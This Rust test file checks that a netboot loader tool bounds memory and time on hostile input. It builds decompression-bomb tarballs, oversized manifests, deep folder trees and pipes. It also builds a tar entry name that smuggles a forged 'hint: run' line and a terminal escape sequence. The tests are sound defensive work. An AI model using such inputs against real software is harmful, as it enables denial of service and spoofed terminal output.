//! Hostile input must not use unlimited memory or time, whichever command reads it.

use netboot_fixtures::harness::xtask;
pub mod config;
pub mod programs;

use std::fs::File;
use std::io::{self, BufWriter, Read, Write};
use std::os::unix::fs::symlink;
use std::process::Command;

use camino::{Utf8Path, Utf8PathBuf};
use flate2::Compression;
use flate2::write::GzEncoder;
use netboot_fixtures::limits::{self, MAX_RSS, pipe};
use netboot_fixtures::project::{CliOutput, Project};
use netboot_loaders::digest::Sha256Digest;
use netboot_loaders::loader::file_kind::FileKind;
use netboot_loaders::tree::limits::MAX_FILES;
use netboot_loaders::tree::manifest::{self, Manifest};
use tar::{EntryType, Header};

netboot_fixtures::tests! {
    the_peak_is_that_of_the_run_and_of_its_children,
    too_much_memory_fails_a_test,
    an_interrupted_run_ends_with_130,
    a_file_that_is_too_large_is_named_and_not_read,
    names_in_a_tree_forge_no_message,
    a_journal_of_zeros_takes_no_memory,
    json_results_steer_no_terminal,
    ; slow:
    no_tarball_takes_memory_for_what_it_announces,
    nothing_gets_into_the_cache_before_it_is_as_pinned,
    what_a_manifest_claims_is_not_unpacked_without_end,
    no_archive_takes_memory_for_what_it_unpacks_to,
    reading_a_tarball_can_be_interrupted,
    a_tree_of_as_many_files_as_there_may_be_is_verified,
    whatever_reads_a_tree_reads_the_largest_one_within_limits,
    a_manifest_is_read_within_limits,
    a_place_that_claims_as_much_as_it_may_is_deployed_to_within_limits,
    a_folder_of_a_thousand_levels_is_not_walked,
    nobody_waits_for_a_pipe,
    choices_are_read_within_limits,
    names_in_a_tarball_and_its_manifest_forge_no_message,
}

fn the_peak_is_that_of_the_run_and_of_its_children() {
    let peak = |script: &str| limits::measure(Command::new("sh").args(["-c", script])).peak_rss;
    let large = peak("dd if=/dev/zero of=/dev/null bs=300M count=1; true");
    assert!(large > MAX_RSS && large < 2 * MAX_RSS, "{large}");
    // The larger process before it does not count.
    let small = peak("true");
    assert!(small < large / 2, "{small}");
}

fn too_much_memory_fails_a_test() {
    let mut command = Command::new("dd");
    let measured = limits::measure(command.args(["if=/dev/zero", "of=/dev/null", "bs=300M", "count=1"]));
    let panic = std::panic::catch_unwind(|| measured.assert_memory_limit()).err().unwrap();
    let message = panic.downcast_ref::<String>().unwrap();
    assert!(message.starts_with("peak memory 30"), "{message}");
}

fn an_interrupted_run_ends_with_130() {
    let folder = tempfile::tempdir().unwrap();
    let begun = folder.path().join("begun");
    let script = format!("trap 'exit 130' INT; touch '{}'; while :; do sleep 0.1; done", begun.display());
    limits::interrupt(Command::new("sh").args(["-c", &script]), |_| begun.exists());
}

/// More than any command may use in memory.
const TOO_MUCH: u64 = 280 << 20;

/// Writes a tarball piece by piece.
struct Writer<W: Write>(W);

type Gzip = Writer<GzEncoder<BufWriter<File>>>;

impl Gzip {
    fn gzip(path: &Utf8Path) -> Self {
        Self(GzEncoder::new(BufWriter::new(File::create(path).unwrap()), Compression::fast()))
    }
}

impl Gzip {
    fn end(mut self) {
        self.zeros(1024);
        self.0.finish().unwrap().flush().unwrap();
    }
}

impl<W: Write> Writer<W> {
    /// Writes the header of an entry that declares `size` bytes.
    fn header(&mut self, kind: EntryType, name: &[u8], size: u64) {
        let mut header = Header::new_gnu();
        header.set_entry_type(kind);
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.set_size(size);
        header.set_mode(0o644);
        header.set_cksum();
        self.0.write_all(header.as_bytes()).unwrap();
    }

    fn zeros(&mut self, size: u64) {
        io::copy(&mut io::repeat(0).take(size), &mut self.0).unwrap();
    }

    fn file(&mut self, name: &str, content: &mut dyn Read, size: u64) {
        self.header(EntryType::Regular, name.as_bytes(), size);
        assert_eq!(io::copy(content, &mut self.0).unwrap(), size);
        self.zeros(size.next_multiple_of(512) - size);
    }

    fn text(&mut self, name: &str, text: &str) {
        self.file(name, &mut text.as_bytes(), text.len() as u64);
    }
}

/// Returns hostile tarballs, each with the expected message.
fn hostile_tarballs(folder: &Utf8Path) -> Vec<(Utf8PathBuf, &'static str)> {
    let write = |name: &str, write: &dyn Fn(&mut Gzip)| {
        let path = folder.join(name);
        let mut writer = Writer::gzip(&path);
        write(&mut writer);
        writer.end();
        path
    };
    let bomb = |kind: EntryType| {
        move |writer: &mut Gzip| {
            writer.header(kind, b"././@LongLink", 10 << 30);
            if [EntryType::GNULongName, EntryType::XHeader, EntryType::Regular].contains(&kind) {
                writer.zeros(TOO_MUCH);
            }
        }
    };
    let extension = "it has an extension header of 10737418240 bytes, wanted 8192 at most";
    vec![
        (write("long-name.tar.gz", &bomb(EntryType::GNULongName)), extension),
        (write("long-link.tar.gz", &bomb(EntryType::GNULongLink)), extension),
        (write("pax.tar.gz", &bomb(EntryType::XHeader)), extension),
        (write("pax-global.tar.gz", &bomb(EntryType::XGlobalHeader)), extension),
        (write("sparse.tar.gz", &bomb(EntryType::GNUSparse)), "its entry `././@LongLink` is a sparse file"),
        (write("large.tar.gz", &bomb(EntryType::Regular)), "its entry `././@LongLink` has 10737418240 bytes, wanted "),
        (
            write("many.tar.gz", &|writer| {
                (0..400_000).for_each(|i| writer.header(EntryType::Link, format!("{i}").as_bytes(), 0));
            }),
            "it has more than ",
        ),
        (
            write("paths.tar.gz", &|writer| {
                for i in 0..4300 {
                    writer.header(EntryType::GNULongName, b"././@LongLink", 8000);
                    writer.0.write_all(format!("{i:08000}").as_bytes()).unwrap();
                    writer.zeros(192);
                    writer.header(EntryType::Link, b"x", 0);
                }
            }),
            "the paths of its entries have more than 33554432 bytes",
        ),
        (
            write("name.tar.gz", &|writer| writer.header(EntryType::Regular, b"x\nhint: run \x1b[2J\xff", 0)),
            "the path of its entry `x\\nhint: run \\u{1b}[2J\\x{ff}` is not UTF-8",
        ),
    ]
}

/// Returns a project with a tree.
fn built() -> Project {
    let project = Project::new();
    project.sites("[default]\nloaders = [\"ipxe.efi\"]\nscript = \"boot.ipxe\"\n[syslinux]\nmembers = []\n");
    project.build(&[]).success();
    project
}

fn no_tarball_takes_memory_for_what_it_announces() {
    let project = built();
    for (path, said) in hostile_tarballs(&project.root) {
        let (file, place) = (path.as_str(), project.path("place"));
        for (arguments, code) in [
            (&["verify", file][..], 8),
            (&["boot-test", "--list", file], 8),
            (&["reproduce", "--against", file], 8),
            (&["deploy", "--tree", file, place.as_str()], 8),
        ] {
            let error = project.run_within_limits(arguments).error(code);
            let begins = format!("`{path}` is neither a tree nor the tarball of one: {said}");
            // Links alone do not stop the reading of a tree; here there are too many of them.
            assert!(error.starts_with(&begins), "{arguments:?}: {error}");
        }
        let cache = project.path("empty-cache");
        let arguments = ["--cache-dir", cache.as_str(), "build-loaders", "--offline", "--sources-from", file];
        let mut command = Command::new(xtask());
        command.args(["--project", project.root.as_str()]).args(arguments);
        let error = CliOutput::from(limits::measure(&mut command).assert_memory_limit()).error(6);
        assert!(error.starts_with(&format!("`{path}` cannot be read as a source bundle: {said}")), "{error}");
        assert!(!place.exists());
        std::fs::remove_file(&path).unwrap();
    }
}

fn nothing_gets_into_the_cache_before_it_is_as_pinned() {
    let project = Project::new();
    let path = project.path("sources.tar.gz");
    let folders = |count: usize| (0..count).map(|i| format!("root/ipxe/{i}/file")).collect::<Vec<_>>();
    let deep = format!("root/ipxe/{}file", "a/".repeat(31));
    for (names, said) in [
        (folders(2_001), "cannot be read as a source bundle: it has more than 2000 folders\n"),
        (vec![format!("root/ipxe/a/{}", &deep["root/ipxe/".len()..])], "a path in it has more than 32 parts\n"),
        // The maximum.
        (folders(1_999), "does not have iPXE's tree as pinned: "),
        (vec![deep], "does not have iPXE's tree as pinned: "),
    ] {
        let mut writer = Writer::gzip(&path);
        for name in &names {
            writer.text(name, name);
        }
        writer.end();
        let cache = project.path("empty-cache");
        let arguments = ["--cache-dir", cache.as_str(), "fetch", "--offline", "--sources-from", path.as_str()];
        let mut command = Command::new(xtask());
        command.args(["--project", project.root.as_str()]).args(arguments);
        let error = CliOutput::from(limits::measure(&mut command).assert_memory_limit()).error(6);
        assert!(error.starts_with(&format!("`{path}` ")) && error.contains(said), "{error}");
        let left = netboot_loaders::base::fs::walk(&cache).unwrap();
        let left: Vec<_> = left.iter().filter(|(path, _)| path.starts_with("ipxe.git/objects")).collect();
        assert!(
            left.iter().all(|(path, _)| ["info", "pack", "objects"].contains(&path.file_name().unwrap())),
            "{left:?}"
        );
        assert!(
            !netboot_loaders::base::fs::entries(&cache).unwrap().iter().any(|path| path.as_str().contains("import-"))
        );
    }
}

fn manifest_of(project: &Project) -> Manifest {
    Manifest::parse(&project.read("dist/tftp/manifest.json")).unwrap()
}

fn what_a_manifest_claims_is_not_unpacked_without_end() {
    let project = built();
    let mut manifest = manifest_of(&project);
    let zeros = || io::repeat(0).take(60 << 20);
    let (sha256, size) = Sha256Digest::of_reader(&mut zeros()).unwrap();
    let file = manifest::ManifestEntry {
        sha256,
        size,
        kind: FileKind::Data,
        arch: None,
        ipxe: None,
        ..manifest.files[0].clone()
    };
    manifest.files = (0..6).map(|i| manifest::ManifestEntry { path: format!("{i}").into(), ..file.clone() }).collect();
    let path = project.path("bomb.tar.gz");
    let mut writer = Writer::gzip(&path);
    manifest.files.iter().for_each(|file| writer.file(file.path.as_str(), &mut zeros(), size));
    writer.text("manifest.json", &manifest.to_json());
    writer.text("SHA256SUMS", &manifest.sha256sums());
    writer.end();
    let temporary = project.path("temporary");
    std::fs::create_dir(&temporary).unwrap();
    for arguments in [&["verify", path.as_str()][..], &["deploy", "--tree", path.as_str(), "/nowhere/place"]] {
        let mut command = project.command(arguments);
        let ran = CliOutput::from(limits::measure(command.env("TMPDIR", &temporary)).assert_memory_limit());
        let error = ran.error(8);
        assert!(error.contains("the tarball of one: it unpacks to more than 268435456 bytes\n"), "{error}");
        assert_eq!(std::fs::read_dir(&temporary).unwrap().count(), 0);
    }
}

fn no_archive_takes_memory_for_what_it_unpacks_to() {
    let project = Project::new();
    std::fs::remove_file(project.path("syslinux.zip")).unwrap();
    let path = project.path("syslinux.tar.xz");
    let write = |write: &dyn Fn(&mut Writer<liblzma::write::XzEncoder<File>>)| {
        let mut writer = Writer(liblzma::write::XzEncoder::new(File::create(&path).unwrap(), 0));
        write(&mut writer);
        writer.0.finish().unwrap();
    };
    let run = |code, said: &str| {
        let ipxe = project.path("ipxe");
        let arguments = ["fetch", "--offline", "--ipxe-url", ipxe.as_str(), "--syslinux-archive", path.as_str()];
        let error = project.run_within_limits(&arguments).error(code);
        assert!(error.starts_with(&format!("`{path}` {said}")), "{error}");
    };
    write(&|writer| {
        writer.header(EntryType::Regular, b"large", 500 << 20);
        writer.zeros(500 << 20);
        writer.zeros(1024);
    });
    run(6, "has no member `");
    write(&|writer| writer.zeros(600 << 20));
    run(6, "is refused: something follows the end of the tarball, which no honest release has");
    write(&|writer| {
        writer.header(EntryType::GNULongName, b"././@LongLink", 10 << 30);
        writer.zeros(TOO_MUCH);
    });
    run(6, "is refused: it has an extension header of 10737418240 bytes, wanted 8192 at most");
}

/// Returns a tarball that takes seconds to read.
fn long_tarball(project: &Project) -> Utf8PathBuf {
    let path = project.path("long.tar.gz");
    let mut writer = Writer::gzip(&path);
    // With incompressible data, the rest may unpack to a gigabyte.
    let mut state = 1_u64;
    let mut noise = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 56) as u8
    };
    let noise: Vec<u8> = (0..11 << 20).map(|_| noise()).collect();
    writer.file("noise", &mut &noise[..], noise.len() as u64);
    (0..68).for_each(|i| writer.file(&format!("{i}"), &mut io::repeat(0).take(15 << 20), 15 << 20));
    writer.end();
    path
}

fn reading_a_tarball_can_be_interrupted() {
    let project = built();
    let path = long_tarball(&project);
    let place = project.path("place");
    let cache = project.path("empty-cache");
    for arguments in [
        &["verify", path.as_str()][..],
        &["deploy", "--tree", path.as_str(), place.as_str()],
        &["reproduce", "--against", path.as_str()],
        &["boot-test", "--list", path.as_str()],
        &["fetch", "--offline", "--sources-from", path.as_str(), "--cache-dir", cache.as_str()],
    ] {
        let mut command = Command::new(xtask());
        command.args(["--project", project.root.as_str()]).args(arguments);
        // Whatever else a command does first takes longer on a busy machine.
        let reads = |pid| limits::has_read(pid, &path, 1 << 20);
        let measured = limits::interrupt(&mut command, reads).assert_memory_limit();
        assert!(measured.stderr.ends_with("error: interrupted\n"), "{arguments:?}: {}", measured.stderr);
    }
}

/// Writes `manifest.json` and `SHA256SUMS` of `manifest`, whose only file is repeated `count` times, to `folder`, in
/// the tool's format but piece by piece. Returns the paths: `PATH` in the file's path is replaced by a number.
fn write_records(manifest: &Manifest, count: usize, folder: &Utf8Path) -> impl Iterator<Item = String> + use<> {
    let (path, sha256) = (manifest.files[0].path.to_string(), manifest.files[0].sha256);
    let numbers = || (0..count).map(|i| format!("{i:06}"));
    let json = manifest.to_json();
    let (head, rest) = json.split_once("\n    {\n      \"path\"").unwrap();
    let entry = format!("\n    {{\n      \"path\"{}", rest.strip_suffix("\n  ]\n}\n").unwrap());
    write_items(&folder.join("manifest.json"), head, numbers().map(|name| entry.replace("PATH", &name)), "\n  ]\n}\n");
    let (digest, _) = netboot_loaders::base::fs::sha256(&folder.join("manifest.json")).unwrap();
    let mut sums = BufWriter::new(File::create(folder.join("SHA256SUMS")).unwrap());
    writeln!(sums, "{digest}  manifest.json").unwrap();
    let paths = numbers().map(move |number| path.replace("PATH", &number)).collect::<Vec<_>>();
    for path in &paths {
        writeln!(sums, "{sha256}  {path}").unwrap();
    }
    sums.into_inner().unwrap();
    paths.into_iter()
}

/// Returns the tarball of a tree with `count` small files, each with a manifest entry of the maximum size.
fn tree_of(project: &Project, count: usize) -> Utf8PathBuf {
    let mut manifest = manifest_of(project);
    let mut file = manifest.files.iter().find(|file| file.ipxe.is_some()).unwrap().clone();
    // The content is that of no loader, so it is called none.
    file.ipxe.as_mut().unwrap().target = "bin/another".into();
    let (sha256, site) = (Sha256Digest::of(b"content"), Some("a".repeat(20)));
    let path = format!("sites/PATH/{}", "a".repeat(20)).into();
    manifest.files = vec![manifest::ManifestEntry { path, sha256, size: 7, kind: FileKind::Data, site, ..file }];
    let paths = write_records(&manifest, count, &project.root);
    let tarball = project.path("many.tar.gz");
    let mut writer = Writer::gzip(&tarball);
    for name in ["SHA256SUMS", "manifest.json"] {
        let file = project.path(name);
        writer.file(name, &mut File::open(&file).unwrap(), file.metadata().unwrap().len());
    }
    paths.for_each(|path| writer.text(&path, "content"));
    writer.end();
    tarball
}

fn a_tree_of_as_many_files_as_there_may_be_is_verified() {
    let project = built();
    let tarball = tree_of(&project, MAX_FILES);
    let ran = project.run_within_limits(&["verify", tarball.as_str()]).success();
    assert!(ran.stdout.contains("all 110000 files are as in the manifest"), "{}", ran.stdout);
    let tarball = tree_of(&project, MAX_FILES + 1);
    let error = project.run_within_limits(&["verify", tarball.as_str()]).error(8);
    assert!(error.contains("the tarball of one: it has more than 110000 entries\n"), "{error}");
}

/// Returns a tree whose manifest has the maximum number of files, configurations and sites.
fn largest_tree(project: &Project) -> Utf8PathBuf {
    let mut manifest = manifest_of(project);
    let configuration = manifest.configurations[0].clone();
    let (list, map) = (vec![String::new(); 1000], |i| (format!("{i}"), Sha256Digest::of(b"")));
    let map: std::collections::BTreeMap<_, _> = (0..1000).map(map).collect();
    let full = manifest::Configuration {
        make: list.clone(),
        environment: list,
        headers: map.clone(),
        trust: map,
        ..configuration.clone()
    };
    manifest.configurations = [vec![configuration], vec![full; 4]].concat();
    let (sha256, site) = (Sha256Digest::of(b""), Some("s".repeat(250)));
    let path = format!("xPATH{}", "a".repeat(79)).into();
    let file = manifest.files[0].clone();
    manifest.files = vec![manifest::ManifestEntry {
        path,
        sha256,
        size: 0,
        kind: FileKind::Data,
        arch: None,
        site,
        ipxe: None,
        ..file
    }];
    let tree = project.path("largest");
    std::fs::create_dir(&tree).unwrap();
    let mut first = None;
    for (i, path) in write_records(&manifest, MAX_FILES, &tree).enumerate() {
        let path = tree.join(path);
        // No file system allows that many links to one file.
        match &first {
            Some(first) if i % 30_000 != 0 => std::fs::hard_link(first, path).unwrap(),
            _ => {
                File::create(&path).unwrap();
                first = Some(path);
            }
        }
    }
    tree
}

fn whatever_reads_a_tree_reads_the_largest_one_within_limits() {
    let project = built();
    let tree = largest_tree(&project);
    let (tree, manifest, text) = (tree.as_str(), tree.join("manifest.json"), project.path("dist/tftp/manifest.json"));
    let place = project.path("place");
    std::fs::create_dir(&place).unwrap();
    // A target that claims as many files of its own.
    let small = String::from_utf8(project.read("dist/tftp/manifest.json")).unwrap();
    let (head, digest) = (small.split_once("\"files\": [").unwrap().0, "a".repeat(64));
    let listed = |i| format!("{{\"path\":\"{i:086}\",\"size\":1,\"sha256\":\"{digest}\",\"kind\":\"data\"}}");
    let listed = (0..MAX_FILES).map(listed);
    write_items(&place.join("manifest.json"), &format!("{head}\"files\": ["), listed, "]}");
    let deploy = ["deploy", "--dry-run", "--tree", tree, place.as_str()];
    let reads: [(&[&str], u8, &str); 5] = [
        (&["verify", tree], 0, "all 110000 files are as in the manifest"),
        (&["boot-test", "--list", tree], 3, "found no case as asked for in"),
        (&deploy, 0, "send       x000000"),
        (&["reproduce", "--against", tree], 12, "\nand 109,982 more\n"),
        (&["inspect", "--manifest", manifest.as_str(), text.as_str()], 8, "wanted a loader"),
    ];
    for (arguments, code, said) in reads {
        let ran = project.run_within_limits(arguments);
        assert_eq!(ran.code, i32::from(code), "{arguments:?}: {}", ran.stderr);
        assert!(ran.stdout.contains(said) || ran.stderr.contains(said), "{arguments:?}: {}", ran.stderr);
        // At this size, it has read the manifest and is parsing it.
        let reads = |pid| limits::resident(pid) > 70 << 20;
        let measured = limits::interrupt(&mut project.command(arguments), reads).assert_memory_limit();
        assert!(measured.stderr.contains("interrupted"), "{arguments:?}: {}", measured.stderr);
    }
}

fn a_manifest_is_read_within_limits() {
    let project = built();
    let text = String::from_utf8(project.read("dist/tftp/manifest.json")).unwrap();
    let path = project.path("dist/tftp/manifest.json");
    // Lists that take many times their file size in memory.
    for (list, item, most) in
        [("\"environment\": [", "\"\",", 1000), ("\"toolchain\": [", "{},", 0), ("\"files\": [", "[],", 0)]
    {
        let (before, after) = text.split_once(list).unwrap();
        let mut file = BufWriter::new(File::create(&path).unwrap());
        write!(file, "{before}{list}").unwrap();
        (0..15 << 20).for_each(|_| file.write_all(item.as_bytes()).unwrap());
        file.write_all(after.as_bytes()).unwrap();
        file.into_inner().unwrap();
        let error = project.run_within_limits(&["verify"]).error(8);
        assert!(error.starts_with(&format!("the manifest of `{}` cannot be read: ", project.tree())), "{error}");
        let expected = "invalid length 1001, expected a list of at most 1000 items";
        assert!(most == 0 || error.contains(expected), "{error}");
    }
    // All of them together.
    let (before, after) = text.split_once("\"configurations\": [").unwrap();
    let list = vec!["\"\""; 1000].join(",");
    let digest = "a".repeat(64);
    let rest = "\"headers\":{},\"trust\":{}";
    let full = format!("{{\"name\":\"\",\"sha256\":\"{digest}\",\"make\":[{list}],\"environment\":[{list}],{rest}}},");
    std::fs::write(&path, format!("{before}\"configurations\": [{}{after}", full.repeat(1000))).unwrap();
    let error = project.run_within_limits(&["verify"]).error(8);
    assert!(error.contains("invalid length 20010, expected a list of at most 20000 items"), "{error}");
    // And maps.
    let (before, after) = text.split_once("\"headers\": {").unwrap();
    let mut file = BufWriter::new(File::create(&path).unwrap());
    write!(file, "{before}\"headers\": {{").unwrap();
    (0..300_000).for_each(|i| write!(file, "\"{i}\": \"{i:064}\",").unwrap());
    write!(file, "\"x\": \"{0:064}\"{after}", 0).unwrap();
    file.into_inner().unwrap();
    let error = project.run_within_limits(&["verify"]).error(8);
    assert!(error.contains("invalid length 1001, expected a map of at most 1000 items"), "{error}");
    File::create(&path).unwrap().set_len(40 << 30).unwrap();
    assert_eq!(
        project.run_within_limits(&["verify"]).error(1),
        format!("cannot read `{path}`\n  caused by: it has 42949672960 bytes, wanted 67108864 at most\n")
    );
    std::fs::write(&path, &text).unwrap();
    project.run(["verify"]).success();
}

/// Writes `items`, separated by commas, between `head` and `tail`.
fn write_items(path: &Utf8Path, head: &str, items: impl Iterator<Item = String>, tail: &str) {
    let mut file = BufWriter::new(File::create(path).unwrap());
    file.write_all(head.as_bytes()).unwrap();
    for (number, item) in items.enumerate() {
        write!(file, "{}{item}", if number == 0 { "" } else { "," }).unwrap();
    }
    file.write_all(tail.as_bytes()).unwrap();
    file.into_inner().unwrap();
}

fn a_place_that_claims_as_much_as_it_may_is_deployed_to_within_limits() {
    let project = built();
    let place = project.path("place");
    std::fs::create_dir(&place).unwrap();
    let manifest = String::from_utf8(project.read("dist/tftp/manifest.json")).unwrap();
    let (head, _) = manifest.split_once("\"files\": [").unwrap();
    let digest = "a".repeat(64);
    // A manifest and a record of the maximum size: other files in each, with folders for all of them.
    let write = |length: usize| {
        let path = |kind: &str, number: usize| format!("{kind}{}/{number:06}", "a".repeat(length));
        let deployed = |i| {
            let content = format!("\"sha256\":\"{digest}\",\"size\":1");
            format!("\"{}\":{{{content},\"modified\":1700000000,\"next\":{{{content}}}}}", path("r", i))
        };
        let head_of_record = "{\"schema-version\":1,\"generator\":\"netboot_loaders\",\"files\":{";
        let deployed = (0..MAX_FILES).map(deployed);
        write_items(&place.join("netboot-loaders-deployed.json"), head_of_record, deployed, "}}");
        let more = "x".repeat(380 - length);
        let listed = |i| {
            let content = format!("\"size\":1,\"sha256\":\"{digest}\",\"kind\":\"data\",\"member\":\"{more}\"");
            format!("{{\"path\":\"{}\",{content}}}", path("m", i))
        };
        write_items(&place.join("manifest.json"), &format!("{head}\"files\": ["), (0..MAX_FILES).map(listed), "]}");
    };
    let dry_run = ["deploy", "--dry-run", place.as_str()];
    // Both are accepted.
    write(30);
    let ran = project.run_within_limits(&dry_run).success();
    assert!(ran.stdout.contains("replace    manifest.json"), "{}", ran.stdout);
    // Neither is accepted: the record is ignored, and the manifest is not of this tool.
    write(120);
    let error = project.run_within_limits(&dry_run).printed("send       ipxe.efi").error(1);
    let expected = "found paths of more than 12582912 bytes with their folders, wanted those of a tree\n";
    assert!(error.contains(expected), "{error}");
}

fn a_file_that_is_too_large_is_named_and_not_read() {
    let project = built();
    for name in ["ipxe.efi", "autoexec.ipxe", "SHA256SUMS"] {
        File::create(project.tree().join(name)).unwrap().set_len(40 << 30).unwrap();
    }
    assert_eq!(
        project.run_within_limits(&["verify"]).error(8),
        format!(
            "`{}` differs from its manifest\n  `SHA256SUMS` is missing\n  `autoexec.ipxe` is not in the manifest\n  \
             `SHA256SUMS` has 42949672960 bytes, wanted 67108864 at most\n  \
             `ipxe.efi` has 42949672960 bytes, wanted 67108864 at most\n\
             hint: build the tree with `cargo xtask build-loaders`\nhelp: cargo xtask help verify-and-inspect\n",
            project.tree()
        )
    );
}

fn a_folder_of_a_thousand_levels_is_not_walked() {
    let project = built();
    let deep = project.tree().join(["a"; 1000].join("/"));
    std::fs::create_dir_all(&deep).unwrap();
    let said = format!("it lies more than 64 folders below `{}`\n", project.tree());
    let named = project.tree().join(["a"; 65].join("/"));
    let error = project.run_within_limits(&["verify"]).error(1);
    assert_eq!(error, format!("cannot list `{named}`\n  caused by: {said}"));
    let error = project.run_within_limits(&["deploy", project.path("place").as_str()]).error(1);
    assert_eq!(error, format!("cannot list `{named}`\n  caused by: {said}"));
}

fn nobody_waits_for_a_pipe() {
    let project = built();
    let special = "found a FIFO, wanted a regular file\n";
    let build = |project: &Project| {
        let arguments = project.build_arguments(&[]);
        project.run_within_limits(&arguments.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let script = project.path("embed-scripts/boot.ipxe");
    pipe(&script);
    let error = build(&project).error(3);
    let expected = format!("embed-scripts/sites.toml:3: `default.script`: cannot read `{script}`: {special}");
    assert!(error.starts_with(&expected), "{error}");
    project.write("embed-scripts/racks.csv", "");
    pipe(&project.path("embed-scripts/racks.csv"));
    let racks = project.path("embed-scripts/racks.csv");
    let error = project.run_within_limits(&["build-loaders", "--plan", "--sites", racks.as_str()]).error(3);
    assert!(error.contains(&format!("cannot read `{racks}`: {special}")), "{error}");
    for (file, code) in [("embed-scripts/sites.toml", 3), ("vendor/pins.toml", 1)] {
        pipe(&project.path(file));
        let error = build(&project).error(code);
        assert_eq!(error, format!("cannot read `{}`\n  caused by: {special}", project.path(file)));
    }
    project.write("embed-scripts/network.toml", "");
    pipe(&project.path("embed-scripts/network.toml"));
    let error = project.run_within_limits(&["recipe", "dnsmasq"]).failure(1);
    assert!(error.contains(special), "{error}");
    for file in ["SHA256SUMS", "ipxe.efi"] {
        pipe(&project.tree().join(file));
        let error = project.run_within_limits(&["verify"]).error(8);
        assert!(error.contains(&format!("  `{file}` is a link or a device, wanted a plain file\n")), "{error}");
    }
    for file in ["config", "objects/pack/pack-1.idx"] {
        let project = built();
        pipe(&project.path("cache/ipxe.git").join(file));
        let sources = project.path("sources.tar.gz");
        let error = project.run_within_limits(&["bundle-sources", "--offline", "--out", sources.as_str()]).failure(1);
        let cache = project.path("cache/ipxe.git");
        assert!(
            error.contains(&format!("cannot use the git cache `{cache}`: `{file}` is not a regular file\n")),
            "{error}"
        );
    }
    let manifest = project.path("dist/tftp/manifest.json");
    pipe(&manifest);
    let error = project.run_within_limits(&["verify"]).error(1);
    assert_eq!(error, format!("cannot read `{manifest}`\n  caused by: {special}"));
    for (path, found) in [(manifest.as_str(), "a FIFO"), ("/dev/zero", "a device")] {
        let error = project.run_within_limits(&["verify", path]).error(1);
        assert_eq!(error, format!("cannot read `{path}`\n  caused by: found {found}, wanted a regular file\n"));
    }
}

fn choices_are_read_within_limits() {
    let project = Project::new();
    let plan = |code| project.run_within_limits(&["build-loaders", "--plan"]).error(code);
    let sites = "[default]\nloaders = [\"ipxe.efi\"]\nscript = \"boot.ipxe\"\n";
    let most = (2 << 20) - 200;
    for (head, unit) in [("x = [", "[],"), ("x = [", "{a={}},"), ("", "a.b=1\n"), ("", "[a]\n"), ("x = \"", "\\u202e")]
    {
        project.sites(&format!("{sites}{head}{}", unit.repeat(most / unit.len())));
        plan(3);
    }
    project.sites(&format!("{sites}#{}\n", "x".repeat(2 << 20)));
    assert!(plan(3).contains("wanted 2097152 at most\n"));
    // With this many variables, a linear search for each would take too long.
    let vars: String = (0..150_000).map(|i| format!("v{i}=''\n")).collect();
    project.sites(&format!("{sites}[site.a.vars]\n{vars}"));
    assert!(plan(3).contains("`site.a.vars`: has 150000 variables, wanted 1000 at most\n"));
    project.sites(sites);
    for (head, unit) in [
        ("site,a\n", "\n"),
        ("site,a\n", "x\n"),
        ("site,a\n", "\u{202e},\"\n\"\n"),
        ("", "a,"),
        ("name,", "a,"),
        ("", "\""),
    ] {
        project.write("racks.csv", &format!("{head}{}", unit.repeat(4 * most / unit.len())));
        let error =
            project.run_within_limits(&["build-loaders", "--plan", "--sites", project.path("racks.csv").as_str()]);
        let error = error.error(3);
        assert!(error.len() < 100_000 && !error.contains('\u{202e}'), "{} bytes", error.len());
    }
    let racks = project.path("racks.csv");
    let plan_racks = |text: &str| {
        project.write("racks.csv", text);
        project.run_within_limits(&["build-loaders", "--plan", "--sites", racks.as_str()])
    };
    let rows = |count: usize, rest: &str| (0..count).map(|row| format!("a{row:x}{rest}\n")).collect::<String>();
    let error = plan_racks(&format!("name,a\n{}", rows(600_000, ","))).error(3);
    assert!(
        error.contains("racks.csv: has more than 110000 rows, and no tree has room for so many sites\n"),
        "{error}"
    );
    let columns = |count: usize| (1..count).map(|column| format!(",c{column}")).collect::<String>();
    plan_racks(&format!("name{}\n{}", columns(1_000), rows(4_100, &",x".repeat(999)))).success();
    plan_racks(&format!("name{}\n{}", columns(12), rows(10_000, &format!(",{}", "v".repeat(36)).repeat(11)))).success();
    // What all sites have in common is stored once.
    let own: String = (0..20_000).map(|i| format!("s{i}={{vars={{a='{i}'}}}}\n")).collect();
    let common: String = (0..1_000).map(|i| format!("v{i}=''\n")).collect();
    project.sites(&format!("{sites}[default.vars]\n{common}[site]\n{own}"));
    project.run_within_limits(&["build-loaders", "--plan"]).success();
    project.sites(sites);
    let vars = format!("[vars]\n{}", (0..1_000).map(|i| format!("v{i}=''\n")).collect::<String>());
    for i in 0..600 {
        project.write(&format!("folder/s{i}.toml"), &vars);
    }
    let folder = project.path("folder");
    let error = project.run_within_limits(&["build-loaders", "--plan", "--sites", folder.as_str()]).error(3);
    assert!(error.contains("makes more than 8388608 bytes of all inventories together\n"), "{error}");
    assert_eq!(error.matches("hint: ").count(), 1, "{error}");
    project.write("racks.csv", &format!("name,a\n{}", rows(100_000, ",x")));
    for milliseconds in [300, 1_000] {
        let begun = std::time::Instant::now();
        let mut command = project.command(["build-loaders", "--plan", "--sites", racks.as_str()]);
        let soon = std::time::Duration::from_millis(milliseconds);
        let measured = limits::interrupt(&mut command, |_| begun.elapsed() > soon).assert_memory_limit();
        assert!(measured.stderr.ends_with("error: interrupted\n"), "{}", measured.stderr);
    }
    let error = plan_racks(&"x".repeat((8 << 20) + 1)).error(3);
    assert!(error.contains("racks.csv` has 8388609 bytes") || error.contains("wanted 8388608 at most\n"), "{error}");
    assert!(error.ends_with("hint: split the sites between several projects\n"), "{error}");
    for (script, most) in [("#\n".repeat(2 << 20), 2_097_152), ("x".repeat(1 << 20), 65_534)] {
        project.write("embed-scripts/boot.ipxe", &format!("#!ipxe\n{script}"));
        let error = plan(3);
        assert!(error.contains(&format!("wanted {most} at most\n")), "{error}");
    }
}

/// Checks that a message contains nothing that controls a terminal, and no more hints than it should have.
#[track_caller]
fn assert_harmless(text: &str, hints: usize) {
    let harmful = |character: char| character != '\n' && netboot_loaders::printable::is_harmful(character);
    assert!(!text.contains(harmful), "{text:?}");
    assert_eq!(text.lines().filter(|line| line.starts_with("hint: ")).count(), hints, "{text}");
    assert!(text.lines().count() < 40, "{} lines", text.lines().count());
}
